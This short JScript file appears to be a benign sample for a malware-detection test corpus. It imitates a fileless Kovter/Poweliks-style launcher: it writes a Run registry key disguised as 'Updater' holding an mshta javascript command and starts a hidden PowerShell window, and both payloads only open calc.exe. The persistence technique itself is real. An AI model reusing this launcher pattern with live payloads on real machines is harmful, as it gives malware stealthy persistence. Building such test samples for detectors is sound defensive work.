// Inert test script written for fileless-milter's behaviour corpus: a Run-key launcher
// (Kovter/Poweliks shape) whose command line only starts calc.exe.
var sh = new ActiveXObject("WScript.Shell");
var cmd = "mshta javascript:close(new ActiveXObject('WScript.Shell').Run('calc.exe',0))";
sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", cmd, "REG_SZ");
sh.Run("powershell -NoProfile -WindowStyle Hidden -Command \"Start-Process calc.exe\"", 0, false);
